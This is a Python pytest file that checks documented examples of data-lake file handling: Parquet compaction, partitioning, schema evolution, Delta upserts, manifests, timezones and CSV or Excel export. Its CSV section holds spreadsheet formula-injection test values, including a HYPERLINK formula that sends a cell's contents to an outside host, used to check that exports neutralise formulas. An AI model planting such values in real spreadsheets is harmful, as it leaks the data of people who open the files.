"""Proofs of docs/storage/file-formats.md."""

import csv
import datetime as dt
import gzip
import http.client
import http.server
import itertools
import threading
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit
from zoneinfo import ZoneInfo

import openpyxl
import pyarrow as pa
import pyarrow.dataset as ds
import pyarrow.parquet as pq
import pytest
from deltalake import DeltaTable
from deltalake.exceptions import CommitFailedError
from pyarrow.fs import LocalFileSystem

from guidance.engines import AwsEngine, environment
from guidance.evidence import assert_output, load_example, twins
from guidance.paths import EXAMPLES

HERE = "storage/file-formats"
DAY = dt.date(2026, 3, 29)
NOON = dt.datetime(2026, 3, 30, 12, tzinfo=dt.UTC)
QUARTER = dt.timedelta(minutes=15)


def example(name: str) -> Any:
    """Load an example of this page."""
    return load_example(f"{HERE}/{name}.py")


def pair(good: str, wrong: str) -> dict[str, Any]:
    """Load an example and its counter-example."""
    return {"good": example(good), "bad": example(f"wrong/{wrong}")}


def reading(
    at: dt.datetime, value: float = 0.44, ingested_at: dt.datetime = NOON
) -> dict[str, object]:
    """Return a reading of the Hogsmill."""
    return {
        "measure_id": "3390TH-level-stage-i-15_min-mASD",
        "observed_at": at,
        "value": value,
        "ingested_at": ingested_at,
    }


def quarters(day: dt.date, first: int = 0, last: int = 96) -> list[dict[str, object]]:
    """Return the readings of some quarter-hours of a UTC day."""
    midnight = dt.datetime.combine(day, dt.time(), dt.UTC)
    return [reading(midnight + number * QUARTER) for number in range(first, last)]


def listed(s3: Any, bucket: str, day: dt.date = DAY) -> list[str]:
    """Return the Parquet objects that lie in a day's folder."""
    folder = f"refined/readings/window_date={day}/"
    found = s3.list_objects_v2(Bucket=bucket, Prefix=folder).get("Contents", [])
    return [item["Key"] for item in found if item["Key"].endswith(".parquet")]


def rows_listed(s3: Any, bucket: str, day: dt.date = DAY) -> int:
    """Count the rows of a day as a reader does that lists, such as Athena."""
    bodies = (s3.get_object(Bucket=bucket, Key=key) for key in listed(s3, bucket, day))
    return sum(
        pq.read_metadata(pa.BufferReader(body["Body"].read())).num_rows for body in bodies
    )


class Killed(Exception):
    """The process ends here."""


class Dying:
    """A client that kills the run at a certain call, once."""

    def __init__(self, client: Any, method: str) -> None:
        self._client, self._method = client, method

    def __getattr__(self, name: str) -> Any:
        if name == self._method:
            self._method = ""
            raise Killed
        return getattr(self._client, name)


# --- LAKE-1: raw ----------------------------------------------------------------------


@pytest.mark.rule("LAKE-1")
def test_a_second_reply_leaves_the_first_alone(s3: Any, bucket: str) -> None:
    replies = [b'{"items": [{"value": 0.44}]}', b'{"items": [{"value": 44.0}]}']

    def keeps_both(module: Any) -> None:
        keys = [module.keep(s3, bucket, DAY, reply) for reply in replies]
        bodies = [s3.get_object(Bucket=bucket, Key=key)["Body"].read() for key in keys]
        kept = {gzip.decompress(b) if b[:2] == b"\x1f\x8b" else b for b in bodies}
        assert replies[0] in kept, "the first reply is gone"
        assert kept == set(replies)

    twins(keeps_both, **pair("raw", "raw_is_the_latest"), harm="the first reply is gone")


@pytest.mark.rule("LAKE-1")
def test_the_same_reply_again_changes_nothing(s3: Any, bucket: str) -> None:
    keep = example("raw").keep
    key = keep(s3, bucket, DAY, b"{}")
    before = s3.head_object(Bucket=bucket, Key=key)

    assert keep(s3, bucket, DAY, b"{}") == key
    after = s3.head_object(Bucket=bucket, Key=key)
    assert after["LastModified"] == before["LastModified"]
    assert key.startswith("raw/readings/ingest_date=2026-03-29/")
    with pytest.raises(s3.exceptions.NoSuchBucket):
        keep(s3, f"{bucket}-none", DAY, b"{}")


# --- LAKE-2: compaction ---------------------------------------------------------------


def in_small_parts(lake: Any) -> list[pa.Table]:
    """Return a day's readings as 12 small tables."""
    return [lake.typed(quarters(DAY, 8 * n, 8 * n + 8)) for n in range(12)]


@pytest.mark.rule("LAKE-2")
def test_compaction_keeps_every_row(s3: Any, bucket: str) -> None:
    lake = example("lake")
    before = lake.publish(s3, bucket, DAY, in_small_parts(lake), "small")
    rows = lake.read_day(s3, bucket, DAY).sort_by("observed_at")
    assert len(listed(s3, bucket)) == 12

    after = lake.compact(s3, bucket, DAY, "compact")

    assert len(listed(s3, bucket)) == len(after.parts) == 1
    assert lake.read_day(s3, bucket, DAY).equals(rows)
    small, large = (sum(part.bytes for part in m.parts) for m in (before, after))
    assert large * 5 < small
    again = lake.compact(s3, bucket, DAY, "compact")
    assert again == after
    with pytest.raises(ValueError, match="2026-03-30: nothing to compact"):
        lake.compact(s3, bucket, DAY + dt.timedelta(days=1), "compact")


@pytest.mark.rule("LAKE-2")
def test_a_compaction_that_was_killed_doubles_nothing(s3: Any, bucket: str) -> None:
    modules = pair("lake", "compacts_what_it_finds")
    lake = modules["good"]

    def runs_again(module: Any) -> None:
        lake.publish(s3, bucket, DAY, in_small_parts(lake), "small")
        with pytest.raises(Killed):
            module.compact(Dying(s3, "delete_object"), bucket, DAY, "first")
        module.compact(s3, bucket, DAY, "second")
        assert rows_listed(s3, bucket) == 96

    twins(runs_again, **modules, harm="192 == 96")


@pytest.mark.rule("LAKE-2")
def test_compaction_refuses_to_lose_rows(
    s3: Any, bucket: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    lake = example("lake")
    lake.publish(s3, bucket, DAY, in_small_parts(lake), "small")
    whole = lake.read_day(s3, bucket, DAY)
    monkeypatch.setattr(lake, "read_day", lambda *_: whole.slice(1))

    with pytest.raises(ValueError, match="95 rows, not 96"):
        lake.compact(s3, bucket, DAY, "compact")
    assert len(listed(s3, bucket)) == 12


# --- LAKE-3, LAKE-4: partitions -------------------------------------------------------


@pytest.mark.rule("LAKE-3")
def test_late_readings_join_the_day_that_they_belong_to(s3: Any, bucket: str) -> None:
    modules = pair("lake", "late_rows_replace_the_day")
    typed = modules["good"].typed

    def has_the_whole_day(module: Any) -> None:
        module.refine(s3, bucket, typed(quarters(DAY, 0, 92)), "on the day")
        late = typed([*quarters(DAY, 92, 96), *quarters(DAY + dt.timedelta(days=1), 0, 8)])
        days = module.refine(s3, bucket, late, "the day after")
        assert days == [DAY, DAY + dt.timedelta(days=1)]
        rows = rows_listed(s3, bucket)
        for key in listed(s3, bucket):
            s3.delete_object(Bucket=bucket, Key=key)
        s3.delete_object(
            Bucket=bucket, Key=f"refined/readings/window_date={DAY}/_manifest.json"
        )
        assert rows == 96

    twins(has_the_whole_day, **modules, harm="4 == 96")


@pytest.mark.rule("LAKE-3")
def test_arrivals_in_any_order_make_the_same_day(s3: Any, bucket: str) -> None:
    lake = example("lake")
    at = dt.datetime.combine(DAY, dt.time(7), dt.UTC)
    arrivals = [
        lake.typed(quarters(DAY, 0, 40)),
        lake.typed([reading(at, 1.5, NOON + QUARTER)]),
        lake.typed([reading(at, 1.4, NOON + 2 * QUARTER)]),
    ]
    found = []
    for order in itertools.permutations(arrivals):
        for arrived in (*order, order[0]):
            lake.refine(s3, bucket, arrived, "any")
        manifest = lake.manifest_of(s3, bucket, DAY)
        found.append(manifest.parts)
        assert lake.read_day(s3, bucket, DAY).num_rows == 40
        s3.delete_object(Bucket=bucket, Key=f"{lake.prefix(DAY)}_manifest.json")

    assert len(set(found)) == 1
    lake.refine(s3, bucket, arrivals[0], "any")
    lake.refine(s3, bucket, arrivals[2], "any")
    lake.refine(s3, bucket, arrivals[1], "any")
    values = lake.read_day(s3, bucket, DAY)["value"].to_pylist()
    assert (values.count(1.4), values.count(1.5)) == (1, 0)


def dated_readings(first: dt.date, days: int) -> pa.Table:
    """Return four readings of each of some days, with the day they belong to."""
    lake = example("lake")
    tables = []
    for number in range(days):
        day = first + dt.timedelta(days=number)
        table = lake.typed(quarters(day, 0, 4))
        column = pa.array([day] * 4, pa.date32())
        tables.append(table.append_column("window_date", column))
    return pa.concat_tables(tables)


@pytest.mark.rule("LAKE-3")
def test_a_range_of_days_across_a_month(tmp_path: Path) -> None:
    files = LocalFileSystem()
    table = dated_readings(dt.date(2026, 1, 15), 30)
    names = iter(("good", "bad"))

    def finds_a_week(module: Any) -> None:
        path = str(tmp_path / next(names))
        module.write_days(files, path, table)
        first, last = dt.date(2026, 1, 28), dt.date(2026, 2, 3)
        found = module.between(files, path, table.schema, first, last)
        days = {at.date() for at in found["observed_at"].to_pylist()}
        assert len(days) == 7

    twins(finds_a_week, **pair("partitions", "four_columns"), harm="0 == 7")
    folder = tmp_path / "bad" / "import_year=2026" / "import_month=02" / "import_day=03"
    assert folder.is_dir()
    guessed = ds.dataset(tmp_path / "bad", partitioning="hive").schema
    assert guessed.field("import_day").type == pa.int32()


class Proxy(http.server.BaseHTTPRequestHandler):
    """Passes requests on to the emulator and notes which objects were read."""

    target = ""
    read: list[tuple[str, int]]

    def _pass_on(self) -> None:
        connection = http.client.HTTPConnection(self.target, timeout=20)
        connection.request(self.command, self.path, headers=dict(self.headers))
        reply = connection.getresponse()
        content = reply.read()
        if self.command == "GET" and ".parquet" in self.path:
            self.read.append((urlsplit(self.path).path, len(content)))
        self.send_response(reply.status)
        for name, value in reply.getheaders():
            if name.lower() not in {"transfer-encoding", "connection"}:
                self.send_header(name, value)
        self.end_headers()
        self.wfile.write(content)
        connection.close()

    do_GET = do_HEAD = _pass_on

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def proxy(aws_engine: AwsEngine) -> Iterator[tuple[str, list[tuple[str, int]]]]:
    """A way to the emulator, and what is read on it: path and bytes of each object."""
    noted: list[tuple[str, int]] = []
    target = urlsplit(aws_engine.endpoint_url).netloc
    handler = type("Noting", (Proxy,), {"target": target, "read": noted})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, args=(0.05,))
        thread.start()
        yield f"http://127.0.0.1:{server.server_address[1]}", noted
        server.shutdown()
        thread.join()


@pytest.mark.rule("LAKE-3")
def test_one_day_reads_one_file(bucket: str, proxy: tuple[str, list[tuple[str, int]]]) -> None:
    modules = pair("partitions", "filters_by_the_timestamp")
    good = modules["good"]
    table = dated_readings(dt.date(2026, 3, 1), 28)
    path, day = f"{bucket}/refined/readings", dt.date(2026, 3, 7)
    good.write_days(good.lake_files(), path, table)
    url, reads = proxy
    with environment(AWS_ENDPOINT_URL=url):
        files = good.lake_files()

    def reads_one_file(module: Any) -> None:
        reads.clear()
        found = module.between(files, path, table.schema, day, day)
        assert found.num_rows == 4
        assert len({name for name, _ in reads}) == 1

    twins(reads_one_file, **modules, harm="28 == 1")


@pytest.mark.rule("LAKE-4")
def test_a_day_is_few_files_and_a_gauge_is_none(tmp_path: Path) -> None:
    files = LocalFileSystem()
    table = dated_readings(dt.date(2026, 3, 1), 7)
    copies = []
    for number in range(25):
        named = pa.array([f"gauge-{number}"] * table.num_rows)
        copies.append(table.set_column(0, "measure_id", named))
    gauges = pa.concat_tables(copies)
    example("partitions").write_days(files, str(tmp_path / "day"), gauges)
    both = ["window_date", "measure_id"]
    ds.write_dataset(
        gauges,
        tmp_path / "id",
        format="parquet",
        partitioning=both,
        partitioning_flavor="hive",
    )

    by_day, by_id = (
        [path.stat().st_size for path in (tmp_path / name).rglob("*.parquet")]
        for name in ("day", "id")
    )

    assert (len(by_day), len(by_id)) == (7, 175)
    assert sum(by_id) > 5 * sum(by_day)


# --- LAKE-5: schemas ------------------------------------------------------------------


@pytest.mark.rule("LAKE-5")
def test_a_column_that_came_later_is_read_from_all_days(tmp_path: Path) -> None:
    files = LocalFileSystem()
    modules = pair("partitions", "schema_of_the_first_file")
    old = dated_readings(dt.date(2026, 3, 1), 1)
    new = dated_readings(dt.date(2026, 3, 2), 1)
    new = new.append_column("quality", pa.array(["good"] * 4))
    modules["good"].write_days(files, str(tmp_path), old)
    modules["good"].write_days(files, str(tmp_path), new)

    def has_both(module: Any) -> None:
        found = module.between(
            files, str(tmp_path), new.schema, dt.date(2026, 3, 1), dt.date(2026, 3, 2)
        )
        assert "quality" in found.column_names
        assert sorted(found["quality"].to_pylist(), key=str) == [None] * 4 + ["good"] * 4

    twins(has_both, **modules, harm="'quality' in")


@pytest.mark.rule("LAKE-5")
def test_what_breaks_readers_is_said() -> None:
    breaks = example("evolution").breaks
    old = example("lake").READINGS
    renamed = old.set(2, pa.field("level", pa.float64()))
    narrowed = old.set(2, pa.field("value", pa.float32(), nullable=False))
    strict = old.append(pa.field("quality", pa.string(), nullable=False))

    assert list(breaks(old, old.append(pa.field("quality", pa.string())))) == []
    assert list(breaks(old, renamed)) == ["value is gone: deprecate it first"]
    assert list(breaks(old, narrowed)) == ["value was double, would be float"]
    assert list(breaks(old, strict)) == ["quality must be nullable: old files lack it"]


# --- LAKE-6: CSV ----------------------------------------------------------------------

PLANTED = [
    '=HYPERLINK("http://example.org/?"&A2)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    " =1",
    "＝1",
]
ANSWERS = [{"account": "007141", "name": "Zoë", "says": text, "paid": 1} for text in PLANTED]
COLUMNS = ["account", "name", "says", "paid"]


def is_formula(text: str) -> bool:
    """Whether a spreadsheet runs a cell."""
    return text.lstrip().startswith(("=", "+", "-", "@", "＝"))


@pytest.mark.rule("LAKE-6")
def test_no_answer_of_a_resident_is_a_formula(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"

    def runs_nothing(module: Any) -> None:
        module.write_for_people(path, COLUMNS, ANSWERS)
        with path.open(encoding="utf-8-sig", newline="") as file:
            rows = list(csv.DictReader(file))
        formulas = [row["says"] for row in rows if is_formula(row["says"])]
        assert formulas == [], f"{len(formulas)} formulas: {formulas[0]}"

    twins(
        runs_nothing,
        **pair("csv_files", "text_as_it_comes"),
        harm="7 formulas: =HYPERLINK",
    )


@pytest.mark.rule("LAKE-6")
def test_a_file_for_people_is_what_excel_expects(tmp_path: Path) -> None:
    path = tmp_path / "answers.csv"
    at = dt.datetime(2026, 7, 1, 0, 30, tzinfo=ZoneInfo("Europe/London"))
    row = {
        "name": 'Zoë "Z", Sutton',
        "at": at,
        "day": DAY,
        "paid": Decimal("-0.10"),
        "is_open": True,
        "left_at": None,
    }

    example("csv_files").write_for_people(path, list(row), [row])

    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
    line = raw.decode("utf-8-sig").splitlines()[1]
    assert line == (
        '"Zoë ""Z"", Sutton","2026-06-30T23:30:00Z","2026-03-29","-0.10","true",""'
    )


@pytest.mark.rule("LAKE-6")
def test_a_workbook_keeps_text_as_text(tmp_path: Path) -> None:
    path = tmp_path / "answers.xlsx"
    rows = [{**ANSWERS[0], "at": NOON}]

    def is_text(module: Any) -> None:
        module.write_workbook(path, COLUMNS, rows)
        sheet = openpyxl.load_workbook(path).worksheets[0]
        kinds = "".join(cell.data_type for cell in sheet[2])
        assert kinds == "sssn", f"{kinds.count('f')} formula"
        assert sheet["A2"].value == "007141"

    modules = pair("workbook", "text_becomes_a_formula")
    twins(is_text, **modules, harm="1 formula")
    modules["good"].write_workbook(path, ["at"], rows)
    assert openpyxl.load_workbook(path).worksheets[0]["A2"].value == "2026-03-30T12:00:00Z"


@pytest.mark.rule("LAKE-6")
def test_what_each_format_gives_back(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(EXAMPLES / HERE))
    trips = example("round_trips")

    found = trips.compare(tmp_path)

    given = {name: "null" if v is None else str(v) for name, v in trips.FIRST.items()}
    given |= {"note": "(empty)", "at": "01:30:00.123456 UTC"}
    titles = list(trips.FORMATS)
    lines = [f"{'column':<9}{'what went in':<21}" + "".join(f"{t:<18}" for t in titles)]
    for name, fates in found.items():
        row = "".join(f"{fates[title]:<18}" for title in titles)
        lines.append(f"{name:<9}{given[name]:<21}{row}")
    assert_output(f"examples/{HERE}/round_trips.out", "\n".join(lines))
    assert {fates["Parquet"] for fates in found.values()} == {"kept"}
    assert {fates["CSV declared"] for fates in found.values()} == {"kept"}
    assert trips.fate(None, 3) == "null"
    # What was lost while writing, whoever reads it:
    assert "007141,NA,,," in (tmp_path / "a.csv").read_text("utf-8")  # empty, then null
    assert "T01:30:00.123Z" in (tmp_path / "c.jsonl").read_text("utf-8")


@pytest.mark.rule("LAKE-6")
def test_a_value_of_the_wrong_type_stops_the_reader(tmp_path: Path) -> None:
    path = tmp_path / "visits.csv"
    path.write_text('"visits"\n"3"\n"n/a"\n', "utf-8")
    schema = pa.schema({"visits": pa.int64()})

    with pytest.raises(pa.ArrowInvalid, match=r"conversion error to int64.*'n/a'"):
        example("csv_files").read_from_machines(path, schema)


# --- LAKE-7: times --------------------------------------------------------------------


@pytest.mark.rule("LAKE-7")
def test_the_hour_that_comes_twice_stays_two_hours() -> None:
    london = ZoneInfo("Europe/London")
    midnight = dt.datetime(2026, 10, 25, tzinfo=london).astimezone(dt.UTC)
    rows = [reading((midnight + n * QUARTER).astimezone(london)) for n in range(100)]

    def keeps_them_apart(module: Any) -> None:
        times = module.typed(rows)["observed_at"].to_pylist()
        assert len(set(times)) == 100

    modules = pair("lake", "local_time_without_a_zone")
    twins(keeps_them_apart, **modules, harm="96 == 100")
    typed = modules["good"].typed
    assert str(typed(rows).schema.field("observed_at").type) == "timestamp[us, tz=UTC]"
    with pytest.raises(ValueError, match="observed_at: 2026-10-25 01:30:00 has no zone"):
        typed([reading(dt.datetime(2026, 10, 25, 1, 30))])  # noqa: DTZ001  on purpose


# --- LAKE-8: upserts ------------------------------------------------------------------


@pytest.mark.rule("LAKE-8")
def test_an_upsert_leaves_one_row_a_key(bucket: str, aws_engine: AwsEngine) -> None:
    typed = example("lake").typed
    at = dt.datetime.combine(DAY, dt.time(7), dt.UTC)
    corrected = typed([reading(at, 1.4, NOON + QUARTER)])
    names = iter(("good", "bad"))

    def corrects(module: Any) -> None:
        uri = f"s3://{bucket}/{next(names)}"
        module.upsert(uri, typed(quarters(DAY, 0, 40)))
        version = module.upsert(uri, corrected)
        table = DeltaTable(uri)
        assert (version, table.version()) == (1, 1)
        rows = table.to_pyarrow_table().filter(ds.field("observed_at") == at)
        assert rows.num_rows == 1
        assert rows["value"].to_pylist() == [1.4]
        module.upsert(uri, typed([reading(at, 9.9, NOON - QUARTER)]))
        assert DeltaTable(uri).to_pyarrow_table()["value"].to_pylist().count(9.9) == 0
        assert DeltaTable(uri, version=0).to_pyarrow_table().num_rows == 40

    with environment(AWS_ALLOW_HTTP="true"):
        twins(corrects, **pair("upserts", "appends_again"), harm="2 == 1")


@pytest.mark.rule("LAKE-8")
def test_of_two_writers_one_fails(
    bucket: str, aws_engine: AwsEngine, monkeypatch: pytest.MonkeyPatch
) -> None:
    lake, upserts = example("lake"), example("upserts")
    uri, rows = f"s3://{bucket}/raced", lake.typed(quarters(DAY, 0, 4))
    later = [row | {"ingested_at": NOON + QUARTER} for row in quarters(DAY, 0, 4)]

    class Opened:
        """Stands for a writer that had the table open before the other wrote."""

        is_deltatable = DeltaTable.is_deltatable

        def __new__(cls, uri: str) -> Any:
            return stale

    with environment(AWS_ALLOW_HTTP="true"):
        upserts.upsert(uri, rows)
        stale = DeltaTable(uri)
        assert upserts.upsert(uri, lake.typed(later)) == 1
        monkeypatch.setattr(upserts, "DeltaTable", Opened)
        with pytest.raises(CommitFailedError, match="a concurrent transaction"):
            upserts.upsert(uri, lake.typed(later))
        assert DeltaTable(uri).to_pyarrow_table().num_rows == 4


# --- LAKE-9: manifests ----------------------------------------------------------------


@pytest.mark.rule("LAKE-9")
def test_a_killed_run_is_not_seen(s3: Any, bucket: str) -> None:
    modules = pair("lake", "reads_what_lies_there")
    lake = modules["good"]

    def sees_the_old_day(module: Any) -> None:
        lake.publish(s3, bucket, DAY, [lake.typed(quarters(DAY))], "first")
        field = lake.READINGS.field("value")
        rerun = [lake.typed(quarters(DAY)).set_column(2, field, pa.array([0.5] * 96))]
        with pytest.raises(Killed):
            lake.publish(Dying(s3, "get_paginator"), bucket, DAY, rerun, "second")
        assert module.read_day(s3, bucket, DAY).num_rows == 96

    twins(sees_the_old_day, **modules, harm="192 == 96")


@pytest.mark.rule("LAKE-9")
@pytest.mark.parametrize("method", ["put_object", "get_paginator", "delete_object"])
def test_killed_anywhere_and_run_again(s3: Any, bucket: str, method: str) -> None:
    lake = example("lake")
    lake.publish(s3, bucket, DAY, in_small_parts(lake), "first")
    table = lake.typed(quarters(DAY))
    with pytest.raises(Killed):
        lake.publish(Dying(s3, method), bucket, DAY, [table], "second")
    assert lake.read_day(s3, bucket, DAY).num_rows == 96

    manifest = lake.publish(s3, bucket, DAY, [table], "second")

    assert [lake.prefix(DAY) + part.name for part in manifest.parts] == listed(s3, bucket)
    assert lake.read_day(s3, bucket, DAY).equals(table)


@pytest.mark.rule("LAKE-9")
def test_a_part_that_changed_is_noticed(s3: Any, bucket: str) -> None:
    lake = example("lake")
    manifest = lake.publish(s3, bucket, DAY, [lake.typed(quarters(DAY))], "first")
    part = manifest.parts[0]
    key = lake.prefix(DAY) + part.name
    body = s3.get_object(Bucket=bucket, Key=key)["Body"].read()
    assert (part.rows, part.bytes) == (96, len(body))
    s3.put_object(Bucket=bucket, Key=key, Body=body[:-1] + b"?")

    with pytest.raises(lake.Damaged, match=f"{part.name}: not the {part.bytes} bytes written"):
        lake.read_day(s3, bucket, DAY)
    assert lake.manifest_of(s3, bucket, DAY + dt.timedelta(days=1)) is None
    assert lake.read_day(s3, bucket, DAY + dt.timedelta(days=1)).num_rows == 0


# --- LAKE-10: positions ---------------------------------------------------------------


@pytest.mark.rule("LAKE-10")
def test_a_point_says_what_its_numbers_are(tmp_path: Path) -> None:
    gauge = pa.table({"x": [517_700.0], "y": [168_900.0]})
    path = tmp_path / "gauges.parquet"

    def survives_a_file(module: Any) -> None:
        pq.write_table(module.with_crs(gauge, "EPSG:27700"), path)
        assert module.crs_of(pq.read_table(path)) == "EPSG:27700"

    modules = pair("positions", "just_two_numbers")
    twins(survives_a_file, **modules, harm="'EPSG:4326' == 'EPSG:27700'")
    with pytest.raises(ValueError, match="is not in Great Britain") as refused:
        modules["good"].with_crs(gauge, "EPSG:4326")
    assert str(refused.value).startswith("(517700.0, 168900.0)")
    with pytest.raises(ValueError, match="no coordinate reference system: ''"):
        modules["good"].crs_of(gauge)
